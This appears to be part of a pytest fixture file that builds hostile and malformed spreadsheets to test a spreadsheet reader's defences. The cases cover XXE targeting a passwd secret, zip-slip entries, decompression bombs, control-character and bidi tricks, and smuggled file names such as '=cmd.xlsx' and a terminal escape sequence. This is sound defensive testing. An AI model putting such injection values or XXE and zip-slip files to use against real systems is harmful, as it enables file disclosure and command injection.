    Case("xxe_sheet", "xxe_sheet.xlsx", build_xxe_sheet, _x("X005"), exit=UNREADABLE, secret=PASSWD_SECRET),
    Case(
        "xxe_shared_strings",
        "xxe_shared.xlsx",
        build_xxe_shared,
        _x("X005"),
        exit=UNREADABLE,
        secret=PASSWD_SECRET,
    ),
    Case("external_dtd", "external_dtd.xlsx", build_external_dtd, _x("X005"), exit=UNREADABLE),
    Case("far_cell_XFD1048576", "far_cell.xlsx", build_far_cell, _x("X005"), exit=UNREADABLE),
    Case("far_dimension_only", "far_dimension.xlsx", build_far_dimension),  # X005 or read: both fine
    Case("rows_100k_extra_sheet", "rows_100k_sheet.xlsx", build_rows_sheet),
    Case("rows_100k_under_form", "rows_100k_form.xlsx", build_rows_in_form),
    Case("strings_1mb", "strings_1mb.xlsx", build_strings_1mb),
    Case("zip_slip_entries", "zip_slip.xlsx", build_zip_slip),
    Case("duplicate_zip_part", "duplicate_part.xlsx", build_duplicate_part),
    # other formats
    Case("legacy_xls", "legacy.xls", build_xls),
    Case("ods", "calc.ods", build_ods),
    Case("ole_named_xlsx", "ole_inside.xlsx", build_ole_as_xlsx),
    Case("zip_named_xls", "zip_inside.xls", build_zip_as_xls),
    Case("wps_et", "wps_table.et", build_wps_et),
    Case("xlsm_sample", "macro_enabled.xlsm", build_xlsm, same_as_sample=True, exit=0),
    Case("xlsm_template_with_vba", "template_buttons.xlsm", build_template_xlsm, _x("F001"), exit=1),
    Case("encrypted", "encrypted.xlsx", build_encrypted, _x("X002"), exit=UNREADABLE),
    Case("empty_workbook", "empty_workbook.xlsx", build_empty_workbook, _x("X003"), exit=1),
    Case(
        "template_blank_sheets",
        "template_blank.xlsx",
        build_template_blank,
        (("F001", None), ("D001", None)),
        exit=1,
    ),
    # hostile content
    Case(
        "formulas_without_values",
        "formulas_no_values.xlsx",
        build_formulas_no_values,
        (("X004", UNION),),
        exit=1,
    ),
    Case("error_value_div0", "error_div0.xlsx", build_error_div0, (("A001", UNION),), exit=1),
    Case("error_value_ref", "error_ref.xlsx", build_error_ref, (("A001", UNION),), exit=1),
    Case("nan_inf_numbers", "nan_inf.xlsx", build_nan_inf, one_of=("A001", "F001"), exit=1),
    Case("merged_over_values", "merged_over_values.xlsx", build_merged_over_values),
    Case("empty_budget", "empty_budget.xlsx", build_empty_budget, (("F001", UNION),), exit=1),
    Case("two_budget_labels", "two_budget_labels.xlsx", build_two_budget_labels, new_on_sheet=UNION),
    Case("fullwidth_amounts", "fullwidth_amounts.xlsx", build_fullwidth_amounts, one_of=("A001", "A006")),
    Case("formula_like_text", "formula_text.xlsx", build_formula_text, terminal=True),
    Case("sheet_names_odd", "sheet_names_odd.xlsx", build_sheet_names_odd, terminal=True),
    Case("sheet_names_forbidden", "sheet_names_forbidden.xlsx", build_sheet_names_forbidden),
    Case("sheet_names_duplicate", "sheet_names_duplicate.xlsx", build_sheet_names_duplicate),
    Case("control_escapes_shared", "ctrl_shared.xlsx", build_ctrl_shared, terminal=True),
    Case("control_escapes_inline", "ctrl_inline_escapes.xlsx", build_ctrl_inline_escapes, terminal=True),
    Case("control_raw_bytes", "ctrl_raw.xlsx", build_ctrl_raw, terminal=True),
    Case("control_char_refs", "ctrl_charref.xlsx", build_ctrl_charref, terminal=True),
    Case("bidi_rlo", "bidi_rlo.xlsx", build_bidi, terminal=True),
    # odd file names (the good sample's content)
    Case("name_spaces", "name with  spaces .xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_cjk", "定州市 总工会（2020）【终稿】.xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_leading_dash", "-leading-dash.xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_200_chars", "n" * 195 + ".xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_formula", "=cmd.xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_at_sign", "@SUM(A1).xlsx", build_copy, same_as_sample=True, exit=0),
    Case("name_escape_sequence", "\x1b[31mred.xlsx", build_copy, same_as_sample=True, exit=0, terminal=True),
]


# --- building --------------------------------------------------------------------------------


@dataclass
class Builder:
    """Shared work for the builders: LibreOffice conversions, started early, run once."""

    work: Path
    _conversions: dict[str, Future[Path]] = field(default_factory=dict)
    _pool: ThreadPoolExecutor = field(default_factory=lambda: ThreadPoolExecutor(2))
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def start_conversions(self, formats: tuple[str, ...] = ("xls", "ods")) -> None:
        for fmt in formats:
            outdir = self.work / f"convert-{fmt}"
            outdir.mkdir(parents=True, exist_ok=True)
            self._conversions[fmt] = self._pool.submit(convert, SAMPLE, outdir, fmt)

    def converted(self, fmt: str) -> Path:
        with self._lock:
            if fmt not in self._conversions:
                self.start_conversions((fmt,))
        return self._conversions[fmt].result()

    def close(self) -> None:
        self._pool.shutdown(wait=True)


def build_all(folder: Path, work: Path) -> dict[str, str | None]:
    """Build every case into ``folder`` (plus the good sample); the reason each was not built.

    A reason starting with ``skip:`` is a skip (LibreOffice missing), anything else is an error."""
    folder.mkdir(parents=True)
    work.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(SAMPLE, folder / GOOD_NAME)
    builder = Builder(work)
    builder.start_conversions()
    problems: dict[str, str | None] = {}
    try:
        # the slow-to-compress bombs first, LibreOffice runs meanwhile
        for case in sorted(CASES, key=lambda c: c.build not in (build_bomb_blank, build_bomb_rows)):
            try:
                case.build(folder / case.filename, builder)
                problems[case.name] = None
            except pytest.skip.Exception as skipped:
                problems[case.name] = f"skip: {skipped.msg}"
            except BaseException as exc:
                if isinstance(exc, KeyboardInterrupt):
                    raise
                problems[case.name] = "".join(traceback.format_exception(exc))[-3000:]
    finally:
        builder.close()
    return problems
